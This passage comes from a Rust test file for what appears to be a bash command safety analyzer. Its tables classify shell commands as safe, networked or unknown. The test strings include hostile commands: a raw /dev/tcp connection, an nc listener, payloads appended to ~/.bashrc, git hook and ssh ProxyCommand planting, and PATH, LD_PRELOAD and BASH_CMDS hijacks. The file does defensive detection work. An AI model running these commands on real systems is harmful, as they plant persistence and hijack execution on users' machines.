        ("exec 3<>\"/dev/tcp/${HOST}/${PORT}\"", N, &["BG106"]),
        // Option clusters and forms.
        ("tar xIf ./prog a.tar", U, &["BG204"]),
        ("tar xzf a.tgz -C out", U, &["BG204"]),
        ("tar xzf a.tgz -C /tmp/out", S, &[]),
        ("parallel -j4 curl -O ::: a b", N, &["BG101"]),
        ("coproc NAME { nc -l 4444; }", N, &["BG101"]),
        ("yarn", N, &["BG103"]),
        ("pacman -Syu", N, &["BG103"]),
        ("nix-env -iA nixpkgs.jq", N, &["BG103"]),
        ("rview -c ':py import os'", N, &["BG104"]),
        // Friction removed without losing soundness.
        ("IFS=, read -r a b <<< \"$line\"", S, &[]),
        ("sed -i 's/old/new/g' src/*.rs", S, &[]),
        ("sed -i 's/old/new/g' *.rs", U, &["BG210"]),
        ("sed src/*", U, &["BG210"]),
        ("awk \"$prog\" f", U, &["BG210"]),
        ("openssl rand -hex 16", S, &[]),
        ("bash -lc 'ls'", U, &["BG211"]),
        ("read HOME; rg x ~", U, &["BG205"]),
    ]);
}

#[test]
fn variables_that_change_what_runs() {
    table(&[
        ("BASH_CMDS[ls]=./evil; ls", U, &["BG205"]),
        ("declare -A BASH_CMDS=([ls]=./evil)", U, &["BG205"]),
        (
            "shopt -s expand_aliases; BASH_ALIASES[ls]=./evil; ls",
            U,
            &["BG205"],
        ),
        ("declare -n p=PATH; p=./bin; ls", U, &["BG205"]),
        ("local -n p; p=x", U, &["BG205"]),
        ("declare -n ref=counter; ref=3", S, &[]),
        ("for PATH in ./bin; do ls; done", U, &["BG205"]),
        (
            "select BASH_ENV in ./x.sh; do bash -c ls; done",
            U,
            &["BG205"],
        ),
        ("unset PATH; ls", U, &["BG205"]),
        ("unset -v LD_LIBRARY_PATH", U, &["BG205"]),
        ("unset -f ls; unset tmp", S, &[]),
        ("set -k; ls LD_PRELOAD=./x.so", U, &["BG205"]),
        ("set -o keyword", U, &["BG205"]),
        ("set -euo pipefail", S, &[]),
        ("nm --plugin ./x.so a.o", U, &["BG204"]),
        ("dc -e '2 3 + p'", S, &[]),
        ("dc -e '!id'", U, &["BG204"]),
        ("dc calc.dc", U, &["BG211"]),
        ("dc < prog.dc", U, &["BG211"]),
        ("[ -v 'a[$(id)]' ]", U, &["BG309"]),
        ("[[ -v seen ]] && echo yes", S, &[]),
        ("export -n FOO", S, &[]),
        (
            "cpio -o -F user@host:/tmp/a.cpio < files.txt",
            N,
            &["BG107"],
        ),
        ("getent hosts example.com", N, &["BG102"]),
        ("ssh-keygen -t ed25519-sk -w ./provider.so", U, &["BG204"]),
        ("xdg-open https://example.com", N, &["BG101"]),
        // sed -i edits whatever find finds, .git/config and .bashrc included.
        (
            "find . -name '*.txt' -exec sed -i 's/a/b/' {} +",
            U,
            &["BG213"],
        ),
        ("find src test -type f -exec rg -l x {} +", S, &[]),
        ("find $dir -exec rg x {} +", U, &["BG210"]),
        ("find . -execdir sed -i 's/a/b/' {} \\;", U, &["BG213"]),
    ]);
}

#[test]
fn interpreters_reading_data_are_not_remote_code() {
    for cmd in [
        "curl -s api | python3 -c 'import json,sys; print(json.load(sys.stdin))'",
        "curl -s api | node script.js",
        "curl -s api | perl -ne 'print if /x/'",
    ] {
        let a = analyze(cmd);
        assert!(
            !a.findings.iter().any(|f| f.rule.id() == "BG105"),
            "{cmd}: {:?}",
            a.findings
        );
    }
}

#[test]
fn spans_of_invalid_utf8_fit_the_lossy_text() {
    let bytes = b"ls \xff\xfe x; curl \xc3 y";
    let a = bashgate_analyzer::analyze_bytes(bytes);
    let text = String::from_utf8_lossy(bytes);
    for f in &a.findings {
        assert!(
            text.get(f.span.start..f.span.end).is_some(),
            "{:?} does not fit {text:?}",
            f.span
        );
    }
    assert_eq!(a.verdict, Verdict::Network);
}

#[test]
fn non_ascii_option_clusters() {
    for cmd in [
        "sed -é x",
        "awk -é x",
        "timeout -é 5 ls",
        "bash -é",
        "xargs -é",
    ] {
        assert_ne!(analyze(cmd).verdict, Verdict::Safe, "{cmd}");
    }
}

#[test]
fn posix_sh_reads_some_bash_differently() {
    table(&[
        ("sh -c \"echo \\$'\\\\'; curl x #'\"", U, &["BG209"]),
        ("sh -c '((curl x))'", U, &["BG209"]),
        ("dash -c \"echo \\$'a'\"", U, &["BG209"]),
        ("watch \"echo \\$'a'\"", U, &["BG209"]),
        ("sh -c 'echo $((1 + 2))'", S, &[]),
        ("bash -c \"echo \\$'a'\"", S, &[]),
        ("sh -c 'ls -la'", S, &[]),
    ]);
}

#[test]
fn writes_that_change_later_commands() {
    table(&[
        // tar's -f names the archive it writes when it creates one; in the
        // traditional dash-less cluster each value letter takes the next word.
        ("tar cfz ~/.bashrc a.txt", U, &["BG213"]),
        ("tar cbf 20 /etc/ssl/openssl.cnf a.txt", U, &["BG213"]),
        ("tar --create --file=/usr/lib/x.pth a.txt", U, &["BG213"]),
        ("tar -rf ~/.profile a.txt", U, &["BG213"]),
        ("tar -cfz ~/.bashrc", S, &[]),
        ("tar czf backup.tgz src", S, &[]),
        ("tar tf ~/backup.tar", S, &[]),
        ("tar xf /tmp/a.tar -C /tmp/out", S, &[]),
        // A link's target, with the links put in a directory by -t.
        ("ln -s -t sub /etc/ssl/openssl.cnf", U, &["BG213"]),
        ("ln -st sub ../../x", U, &["BG213"]),
        ("ln -s -t sub ../a.txt", S, &[]),
        ("ln -t sub /etc/passwd", U, &["BG213"]),
        ("cp ./evil ~/.local/bin/ls && ls", U, &["BG213"]),
        ("ln -sf /usr/bin/curl ~/bin/ls", U, &["BG213"]),
        ("install -m 755 ./tool ~/.cargo/bin/grep", U, &["BG213"]),
        ("echo './payload.sh' >> ~/.bashrc", U, &["BG213"]),
        ("echo x >> \"$HOME/.profile\"", U, &["BG213"]),
        ("tee -a ~/.profile < x", U, &["BG213"]),
        ("cp hook.sh .git/hooks/pre-commit", U, &["BG213"]),
        (
            "printf '[core]\\n\\tfsmonitor = ./x.sh\\n' >> .git/config",
            U,
            &["BG213"],
        ),
        (
            "printf 'Host *\\n  ProxyCommand ./x.sh\\n' >> ~/.ssh/config",
            U,
            &["BG213"],
        ),
        ("sed -i 's/$/; curl x/' ~/.bashrc", U, &["BG213"]),
        ("cp x \"$dir\"/.git/hooks/post-checkout", U, &["BG213"]),
        ("cp build/out ./dist/out", S, &[]),
        ("echo done > build/bin/status", S, &[]),
        ("sed -i 's/a/b/' src/main.rs", S, &[]),
        ("cat ~/.bashrc", S, &[]),
    ]);
}

#[test]
fn friction_found_by_the_corpus() {
    table(&[
        ("xargs -0i echo {}", S, &[]),
        ("xargs -0i curl {}", N, &["BG101"]),
        ("xargs -0 -n1 -P4 curl", N, &["BG101"]),
        ("bash -n deploy.sh", S, &[]),
        ("bash -nc 'curl x'", S, &[]),
        ("find \"$dir\" -type f -name '*.tmp' -delete", S, &["BG001"]),
        ("find $dir -type f -delete", U, &["BG210"]),
        ("find \"$dir\" sh \\;", U, &["BG210"]),
    ]);
}

/// Lines bash refuses as a whole (`bash -n` fails) that tree-sitter reads
/// on from: no verdict may claim to know what runs.
#[test]
fn lines_bash_refuses_are_not_proven() {
    table(&[
        ("echo a ;; echo b", U, &["BG301"]),
        ("echo a ;& echo b", U, &["BG301"]),
        ("echo a ;;& echo b", U, &["BG301"]),
        ("ls; fi", U, &["BG301"]),
        ("done", U, &["BG301"]),
        ("echo a; }", U, &["BG301"]),
        ("echo a; then ls", U, &["BG301"]),
        ("ls | \\  while read f; do echo; done", U, &["BG301"]),
        ("echo \"\"\\ ls", U, &["BG301"]),
        ("case x in a) ls ;; b) pwd ;& c) id ;; esac", S, &[]),
        ("if true; then ls; fi", S, &[]),
        ("echo fi done then", S, &[]),
        ("ls \\\n  -la", S, &[]),
    ]);
}

/// Every way a builtin sets a variable, not only `NAME=value`: one model
/// (resolve/setvars.rs) for declaration builtins through wrappers, quoted
/// arguments, printf -v, read, mapfile, getopts, wait -p, let, shopt -o.
#[test]
fn variables_set_by_other_means() {
    table(&[
        ("builtin export PATH=/tmp/x; ls", U, &["BG205"]),
        ("command export PATH=/tmp/x; ls", U, &["BG205"]),
        (
            "builtin command builtin declare -x LD_PRELOAD=./x.so; ls",
            U,
            &["BG205"],
        ),
        ("export 'PATH=/tmp/x'; ls", U, &["BG205"]),
        ("export \\PATH=/tmp/x; ls", U, &["BG205"]),
        ("export \"BASH_ENV\"=x; ls", U, &["BG205"]),
        ("declare $'PATH=/tmp'; ls", U, &["BG205"]),
        ("typeset -gx 'EXECIGNORE=*'; ls", U, &["BG205"]),
        ("builtin declare -n r=PATH; ls", U, &["BG205"]),
        ("local -n r; ls", U, &["BG205"]),
        ("printf -vPATH %s /tmp; ls", U, &["BG205"]),
        ("printf -v 'BASH_CMDS[ls]' %s /tmp/evil; ls", U, &["BG205"]),
        ("printf \"$fmt\" x", U, &["BG205"]),
        ("read 'BASH_CMDS[ls]' <<< /tmp/evil; ls", U, &["BG205"]),
        ("read -ra 'x[$(id)]' < f", U, &["BG205"]),
        ("read -r -a PATH < f; ls", U, &["BG205"]),
        ("mapfile -C 'curl x' -c 1 arr < f", U, &["BG205"]),
        ("readarray -tC cb arr < f", U, &["BG205"]),
        ("getopts ab: 'o[$(id)]'", U, &["BG205"]),
        ("let 'PATH=1'; ls", U, &["BG205"]),
        ("let 'a[$(touch x)]=1'", U, &["BG205"]),
        ("shopt -s -o keyword; ls", U, &["BG205"]),
        ("shopt -os keyword; ls", U, &["BG205"]),
        ("set \"$1\"; ls LD_PRELOAD=./x.so", U, &["BG205"]),
        ("set -e$x; ls", U, &["BG205"]),
        ("shopt -o \"$1\" keyword; ls", U, &["BG205"]),
        ("set -- \"$1\"; ls", S, &[]),
        ("shopt -o keyword", S, &[]),
        ("export -f ls; bash -c ls", U, &["BG205"]),
        ("declare -fx ls; bash -c ls", U, &["BG205"]),
        ("read -r line < f; echo \"$line\"", S, &[]),
        ("read -r -p 'name? ' -t 5 name; echo \"$name\"", S, &[]),
        ("mapfile -t lines < f", S, &[]),
        ("getopts ab: opt", S, &[]),
        ("let i=i+1", S, &[]),
        ("printf '%s\\n' a b", S, &[]),
        ("printf -v out '%05d' 42; echo \"$out\"", S, &[]),
        ("export FOO=bar; echo hi", S, &[]),
        ("export -n LANG; ls", S, &[]),
        ("declare -a arr=(1 2); echo \"${arr[0]}\"", S, &[]),
        ("export PATH; ls", S, &[]),
        // Expansions that assign.
        (": ${PATH:=/tmp}; ls", U, &["BG205"]),
        ("echo ${LD_PRELOAD=./x.so}; ls", U, &["BG205"]),
        (": ${BASH_CMDS[ls]:=/tmp/evil}; ls", U, &["BG205"]),
        ("echo $(( PATH=1 )); ls", U, &["BG205"]),
        ("(( BASH_ENV+=1 )); ls", U, &["BG205"]),
        (": ${X:=1}; ls", S, &[]),
        ("echo ${X:-/tmp}", S, &[]),
        ("for ((i=0;i<3;i++)); do echo $i; done", S, &[]),
    ]);
}

/// The environment a command gives a program: any variable neither
/// declared harmless globally (locale, time zone, colour, terminal size)
/// nor by the program's entry makes the program unknown, however it gets
/// there: a prefix, `env`, an export, or `set -a`.
#[test]
fn environment_variables_need_a_declaration() {
    table(&[
        ("RIPGREP_CONFIG_PATH=./rc rg foo", U, &["BG205"]),
        ("env RIPGREP_CONFIG_PATH=./rc rg foo", U, &["BG205"]),
        ("nice env ZIPOPT=-TTx zip a.zip f", U, &["BG205"]),
        ("GROFF_BIN_PATH=./bin man ls", U, &["BG205"]),
        ("PARALLEL_SHELL=./sh parallel echo ::: a", U, &[]),
        ("SHLVL=1 SSH_CLIENT=x bash -c true", U, &["BG205"]),
        ("export RIPGREP_CONFIG_PATH=./rc; rg foo", U, &["BG205"]),
        (
            "builtin export RIPGREP_CONFIG_PATH=./rc; rg foo",
            U,
            &["BG205"],
        ),
        (
            "RIPGREP_CONFIG_PATH=./rc; export RIPGREP_CONFIG_PATH; rg foo",
            U,
            &["BG205"],
        ),
        ("declare -x ZIPOPT=-TTx; zip a.zip f", U, &["BG205"]),
        ("set -a; RIPGREP_CONFIG_PATH=./rc; rg foo", U, &["BG205"]),
        ("set -o allexport; ZIPOPT=-TTx; zip a.zip f", U, &["BG205"]),
        ("rg foo; export RIPGREP_CONFIG_PATH=./rc", U, &["BG205"]),
        ("LANG=C ls", S, &[]),
        ("LC_ALL=C sort f", S, &[]),
        ("TZ=UTC date", S, &[]),
        ("COLUMNS=200 NO_COLOR=1 ls", S, &[]),
        ("env LC_ALL=C grep -r x src", S, &[]),
        ("IFS=, read -r a b <<< \"1,2\"", S, &[]),
        // The environment may already export FOO: the next ls gets the new value.
        ("FOO=bar; ls", U, &["BG205"]),
        ("foo=bar; ls", S, &[]),
        ("ls; FOO=bar", S, &[]),
        // A function body or a trap runs after the assignment, wherever it
        // is written.
        ("f() { ls; }; FOO=bar; f", U, &["BG205"]),
        ("trap ls EXIT; FOO=bar", U, &["BG205"]),
        ("export FOO=bar; echo \"$FOO\"", S, &[]),
    ]);
}

/// A local tool that resolves names sends DNS queries: network.
#[test]
fn name_resolution_is_network() {
    table(&[
        ("hostname -f", N, &[]),
        ("hostname --fqdn", N, &[]),
        ("hostname -A", N, &[]),
        ("hostname -i", N, &[]),
        ("ss -tr", N, &[]),
        ("ss --resolve -t", N, &[]),
        ("netstat -tl", N, &[]),
        ("last --dns", N, &[]),
        ("who --lookup", N, &[]),
        ("getent hosts example.com", N, &[]),
        ("hostname", S, &[]),
        ("hostname -s", S, &[]),
        ("ss -tlnp", S, &[]),
        ("who", S, &[]),
        ("netstat -tlnp", S, &[]),
        ("netstat --numeric -t", S, &[]),
        ("netstat -t -- -n", N, &[]),
    ]);
}

/// Options spelled the way each program's parser reads them, local programs'
/// code paths, and writes the write model did not see (issue 14, classes
/// 3 to 5).
#[test]
fn option_spellings_code_paths_and_hidden_writes() {
    table(&[
        ("zip -TTsh a.zip f", U, &["BG204"]),
        ("nm @opts a.o", U, &["BG204"]),
        ("objdump @opts -d a.o", U, &["BG204"]),
        ("strings @opts", U, &["BG204"]),
        ("strace -o '|sh' ls", U, &["BG204"]),
        ("strace --output='|sh' ls", U, &["BG204"]),
        ("strace -E LD_PRELOAD=./x ls", U, &["BG204"]),
        ("install --strip-program=sh -s a b", U, &["BG204"]),
        ("install -s a b", U, &["BG204"]),
        ("compgen -W '$(id)' x", U, &["BG204"]),
        ("gawk '{ @f() }'", U, &[]),
        ("tar -xf a.tar", U, &["BG204"]),
        ("tar --extract -f a.tar -C .", U, &["BG204"]),
        ("tar -xf a.tar -C ~", U, &["BG204"]),
        ("unzip a.zip", U, &["BG204"]),
        ("cpio -idv < a.cpio", U, &["BG204"]),
        ("patch -p1 < fix.diff", U, &["BG201"]),
        ("7z x a.7z", U, &[]),
        ("ar x lib.a", U, &["BG204"]),
        ("cp -t.git/hooks x", U, &["BG213"]),
        ("cp --target-dir=.git/hooks x", U, &["BG213"]),
        ("mv --target=.git/hooks x", U, &["BG213"]),
        ("cd .git/hooks && cp /tmp/x pre-commit", U, &["BG213"]),
        ("ln -s .git/hooks h; cp x h/pre-commit", U, &["BG213"]),
        ("sed -n 'w .bashrc' f", U, &["BG213"]),
        ("awk '{print > \".bashrc\"}' f", U, &["BG213"]),
        ("sort -o .bashrc f", U, &["BG213"]),
        ("uniq f .bashrc", U, &["BG213"]),
        ("xxd -r f .bashrc", U, &["BG213"]),
        ("split -b 1 f .bash_aliases", U, &["BG213"]),
        ("script -c ls .bashrc", U, &[]),
        ("history -w .bashrc", U, &["BG213"]),
        ("cp --suffix=rc f .bash", U, &["BG204"]),
        ("echo x > .bash_aliases", U, &["BG213"]),
        ("cp x .claude/settings.json", U, &["BG213"]),
        ("tar -xzf a.tgz -C out", U, &["BG204"]),
        ("tar -xzf a.tgz -C /tmp/out", S, &[]),
        ("tar --directory=build -xf a.tar", U, &["BG204"]),
        ("tar --directory=/var/tmp/build -xf a.tar", S, &[]),
        ("unzip -d out a.zip", U, &["BG204"]),
        ("unzip -d /tmp/out a.zip", S, &[]),
        ("unzip -l a.zip", S, &[]),
        ("tar -tvf a.tar", S, &[]),
        ("tar czf a.tgz src", S, &[]),
        ("ar rcs lib.a a.o", S, &[]),
        ("cp .git/hooks/pre-commit.sample /tmp/h", S, &[]),
        ("grep -r TODO .git", S, &[]),
        ("xxd firmware.bin", S, &[]),
        ("strings a.out", S, &[]),
        ("install -m 644 a /tmp/b", S, &[]),
        // Output options and output operands are written files.
        ("sort -o /usr/local/bin/python3 x", U, &["BG213"]),
        ("sort -uo/usr/bin/ls x", U, &["BG213"]),
        ("sort --out=/usr/bin/ls x", U, &["BG213"]),
        ("shuf -e a -o ~/.bashrc", U, &["BG213"]),
        ("uniq list /usr/local/bin/ls", U, &["BG213"]),
        ("xxd firmware.bin /usr/local/bin/ls", U, &["BG213"]),
        ("uniq .bashrc", S, &[]),
        ("sort -o sorted.txt .bashrc", S, &[]),
        ("awk '{ print > $1 }' list", U, &["BG204"]),
        ("awk '{ print > \"out.txt\" }' list", S, &[]),
    ]);
}

#[test]
fn options_are_read_as_the_program_reads_them() {
    table(&[
        // Not in the reviewed table: a newer version's, another
        // implementation's, or a spelling that means something else.
        ("ls --frobnicate", U, &["BG214"]),
        ("ls -y", U, &["BG214"]),
        ("cat -Z f", U, &["BG214"]),
        ("sort --xyz f", U, &["BG214"]),
        ("grep --no-such-option x f", U, &["BG214"]),
        // An ambiguous prefix is refused by the program; unknown to us.
        ("ls --al", U, &["BG214"]),
        // A unique prefix is the option it abbreviates.
        ("ls --almost", S, &[]),
        ("sort --compress=sh f", U, &["BG204"]),
        ("sort --rev f", S, &[]),
        // Attached and separate values are values, not options.
        ("sort -k1,1n -t, f", S, &[]),
        ("cut -d- -f1 f", S, &[]),
        ("grep -e --frob f", S, &[]),
        ("head -n -5 f", S, &[]),
        ("head -5 f", S, &[]),
        ("ls -I '-*' .", S, &[]),
        // After `--` (and after the first operand, for POSIX parsers),
        // dashes are data.
        ("ls -- -weird", S, &[]),
        ("rm -f -- -x", S, &[]),
        ("printf '%s\\n' -x", S, &[]),
        ("echo -z -y", S, &[]),
        ("test -f x", S, &[]),
        // Builtins' own options.
        ("read -r -p 'name: ' x", S, &[]),
        ("cd -P -- /tmp", S, &[]),
        ("set +e -o pipefail", S, &[]),
        ("kill -9 1234", S, &[]),
        ("umask -S", S, &[]),
        ("openssl x509 -in c.pem -noout -text", S, &[]),
        ("openssl x509 -in c.pem -frobnicate", U, &["BG214"]),
        ("xxd -c8 -g1 f", S, &[]),
        ("tar xzf a.tgz -C out", U, &["BG204"]),
        ("tar xzf a.tgz -C /tmp/out", S, &[]),
        ("tar cQf a.tar src", U, &["BG214"]),
    ]);
}

#[test]
fn writes_found_by_the_option_review() {
    table(&[
        // Target directories in every spelling, system directories too.
        ("cp -vt /usr/local/bin x", U, &["BG213"]),
        ("cp --target /usr/local/bin x", U, &["BG213"]),
        ("ln -st /usr/local/bin x", U, &["BG213"]),
        ("cp -vt build x", S, &[]),
        // Into a directory: DIR/NAME is written.
        ("cp dotfiles/.bashrc ~", U, &["BG213"]),
        ("cp -r /tmp/evil/.git .", U, &["BG213"]),
        ("mv /tmp/x/.envrc .", U, &["BG213"]),
        ("cp notes.txt backup/", S, &[]),
        // A tree merged into the working directory or home.
        ("cp -a payload/. .", U, &["BG204"]),
        ("cp -rT payload ~", U, &["BG204"]),
        ("cp -r src/. build", S, &[]),
        ("cp -r src build", S, &[]),
        // Names computed at run time.
        ("tee \"$(echo .bash)rc\" < x", U, &[]),
        ("echo x > out/$name", U, &["BG213"]),
        ("cp x \"build/$f\"", U, &["BG213"]),
        ("cp src/* ~", U, &["BG213"]),
        ("cp src/*.txt backup/", S, &[]),
        ("echo x > out/result.txt", S, &[]),
        // Setuid spelled with an operator, and mode options in clusters.
        ("chmod +4000 f", U, &["BG212"]),
        ("chmod u+x,+4000 f", U, &["BG212"]),
        ("install -m +4755 a b", U, &["BG212"]),
        ("install -Dm 4755 a b", U, &["BG212"]),
        ("install --mod=4755 a b", U, &["BG212"]),
        ("chmod \"$m\" f", U, &["BG212"]),
        ("chmod +x \"$f\"", U, &["BG213"]),
        ("chmod --reference=/usr/bin/sudo f", U, &["BG204"]),
        // Links made by cp and link.
        ("cp -s .git/config cfg", U, &[]),
        ("link .git/config cfg", U, &["BG213"]),
        // Names completed from a prefix or a suffix.
        ("split -a1 -l1 f .bashr", U, &["BG213"]),
        ("split --additional-suffix=hrc f .b", U, &["BG204"]),
        ("split -l 100 big.txt part-", S, &[]),
        ("csplit -f .bash -b 'rc%.0d' f 3", U, &["BG204"]),
        ("csplit -f /usr/local/bin/x f 3", U, &["BG213"]),
        ("csplit -f part f 3", S, &[]),
        // Device nodes; system directories through the write model.
        ("mknod disk b 8 0", U, &["BG204"]),
        ("mknod pipe p", S, &[]),
        ("chmod -R o+w /usr/local/bin", U, &["BG213"]),
        ("tee /usr/local/bin/x=y/../ls < f", U, &["BG213"]),
        // Found by the review of archive and text tools.
        ("unzip -l -- -l x.zip", U, &["BG204"]),
        ("zip -T -qTTcmd a.zip f", U, &["BG204"]),
        ("7z X a.7z", U, &[]),
        ("7z -- x a.7z", U, &["BG204"]),
        ("uudecode payload.uu", U, &["BG204"]),
        ("uudecode -o out.bin payload.uu", S, &[]),
        ("zless '+!id' f.gz", U, &["BG204"]),
        ("gunzip -N x.gz", U, &["BG204"]),
        ("gzip -S rc .bash", U, &["BG204"]),
        ("gzip -d x.gz", S, &[]),
        ("tar -xf a.tar -C out -T list", U, &["BG204"]),
        ("tar -xPf a.tar -C out", U, &["BG204"]),
        (
            "gawk -Wsource='BEGIN{system(\"id\")}' /dev/null",
            U,
            &["BG204"],
        ),
        // awk may be original-awk, which ignores --sandbox.
        ("awk --sandbox 'BEGIN{system(\"id\")}'", U, &["BG204"]),
        ("gawk -d/usr/local/bin/x 'BEGIN{}'", U, &["BG213"]),
        ("sed --i 's/a/b/' ~/.bashrc", U, &["BG213"]),
        ("sed -irc 's/a/b/' .bash", U, &["BG213"]),
        ("sed -i 's/a/b/' notes.txt", S, &[]),
        ("echo '!id' | dc -e '?'", U, &["BG204"]),
        (
            "iconv -f latin1 -t utf8 -o /usr/local/bin/x f",
            U,
            &["BG213"],
        ),
        ("iconv -f latin1 -t utf8 -o out.txt f", S, &[]),
        ("yq -i '.a = 1' f.yaml", U, &["BG204"]),
        ("file -C -m magic", U, &["BG204"]),
        ("man -C evil.conf ls", U, &["BG204"]),
        // Found by the review of system tools.
        ("lsof -i :8080", N, &["BG101"]),
        ("lsof -n -i :8080", S, &[]),
        ("lsof -cnode -i :8080", N, &[]),
        ("lsof -n +n -i :8080", N, &[]),
        ("lsof -n -i @example.com", N, &[]),
        ("hostname -a", N, &[]),
        ("ss -tn dst example.com", N, &[]),
        ("ss -tlnp", S, &[]),
        ("openssl --engine=x x509 -in c.pem", U, &["BG204"]),
        ("openssl x509 -engine=x -in c.pem", U, &["BG204"]),
        (
            "openssl x509 -in org.openssl.engine:../../tmp/x:k",
            U,
            &["BG204"],
        ),
        ("openssl", U, &[]),
        (
            "openssl req -new -key k.pem -out /usr/local/bin/x",
            U,
            &["BG213"],
        ),
        ("openssl verify -crl_download c.pem", N, &[]),
        ("ssh-keygen -R example.com", U, &["BG204"]),
        ("ssh-keygen -l -f key.pub", S, &[]),
        ("tree -o .bashrc", U, &["BG213"]),
        ("tree -L 2 src", S, &[]),
        ("dos2unix -F link", U, &["BG204"]),
        ("dos2unix .bashrc", U, &["BG213"]),
        ("clang-format @opts f.c", U, &["BG204"]),
        ("diffstat 'x$(id).gz'", U, &["BG204"]),
        ("pv -P .bashrc f", U, &["BG213"]),
        // Extraction "elsewhere" must not be a home or hold a protected place.
        ("tar -xf a.tar -C /etc", U, &["BG204"]),
        ("tar -xf a.tar -C /root", U, &["BG204"]),
        ("unzip -d /home/me a.zip", U, &["BG204"]),
        ("tar -xf a.tar -C /usr", U, &["BG204"]),
        ("tar -xf a.tar -C out -C .", U, &["BG204"]),
        ("tar -xf a.tar -C /tmp/x", S, &[]),
        ("unzip -d /opt/app/vendor a.zip", U, &["BG204"]),
        // Found by the review of bash's builtins.
        ("jobs -x echo hi", U, &["BG204"]),
        ("set -eo keyword; env X=1 ls", U, &["BG205"]),
        ("set -Co allexport; LD_PRELOAD=x; ls", U, &["BG205"]),
        ("shopt -so allexport; LD_PRELOAD=x; ls", U, &["BG205"]),
        ("set -o \"$v\"", U, &["BG205"]),
        ("set -H; echo hi", U, &["BG204"]),
        ("set -o histexpand", U, &["BG204"]),
        ("set -euo pipefail; ls", S, &[]),
        ("set +H", S, &[]),
        ("HISTFILE=.bashrc; history -w", U, &["BG205"]),
        ("OLDPWD=.git/hooks; cd -; cp x pre-commit", U, &[]),
        ("cd \"$d\" && cp x pre-commit", U, &["BG213"]),
        ("cd - && echo x > pre-commit", U, &["BG213"]),
        ("pushd +1 && cp x pre-commit", U, &["BG213"]),
        ("popd; cp x pre-commit", U, &["BG213"]),
        ("shopt -s cdable_vars; cd v; cp x pre-commit", U, &["BG213"]),
        ("cd \"$d\" && ls", S, &[]),
        ("cd src && cp x y", S, &[]),
        ("cd && cp x notes.txt", U, &["BG213"]),
        ("cd \"$d\" && cp x /tmp/out", S, &[]),
        // Options read through the table: letters inside a value are no
        // options, and a quoted run-time word with a literal start is none.
        ("cp -t dist/assets f", S, &[]),
        // (tar: the run-time part could hold `host:` and name a remote archive.)
        ("tar czf \"backup-$d.tgz\" src", U, &["BG210"]),
        ("grep -n x \"src/$f\"", S, &[]),
        ("sort \"data/$f\"", S, &[]),
        ("sort \"$f\"", U, &["BG210"]),
        ("sort data/$f", U, &["BG210"]),
        ("mknod x \"b$y\" 8 0", U, &["BG210"]),
        ("ls | tee >(wc -l)", S, &[]),
        // chmod changes what runs only by granting execute; sed's script
        // operand is no file.
        ("find . -type f -exec chmod 644 {} \\;", S, &[]),
        ("find . -exec chmod 755 {} \\;", U, &["BG213"]),
        ("chmod 600 ~/.ssh/id_rsa", S, &[]),
        ("chmod +x .git/hooks/pre-commit", U, &["BG213"]),
        ("chmod -x .git/hooks/pre-commit", S, &[]),
        ("chmod g=u .git/hooks/pre-commit", U, &["BG213"]),
        ("sed -i 's/[[:space:]]*$//' notes.txt", S, &[]),
        ("sed -i -e 's/a/b/' .bashrc", U, &["BG213"]),
        // Found by the oracle once it saw writes (fuzz/INBOX.md F30-F34).
        ("touch \".bas\"{\\h\\r\\c,}", U, &["BG301"]),
        (
            "find . -maxdepth 0 {\\-\\e\\x\\e\\c,} curl x \\;",
            U,
            &["BG301"],
        ),
        ("( env -C .git cp ../a.txt config )", U, &["BG213"]),
        ("env --chdir=.git/hooks touch pre-commit", U, &["BG213"]),
        ("env -C \"$d\" touch pre-commit", U, &["BG213"]),
        ("env -C build touch out.txt", S, &[]),
        ("mkdir --parents \"$(echo .loc)\"al/bin/ls", U, &["BG213"]),
        ("_w1=.envrc; mkdir -p $_w1", U, &["BG213"]),
        ("mkdir -p build/out", S, &[]),
        (
            "( _w1=.git/hooks/pre-co; shuf -o\"${_w1}\"mmit a.txt )",
            U,
            &["BG213"],
        ),
        ("iconv -o\"$x\"x f", U, &["BG213"]),
    ]);
}
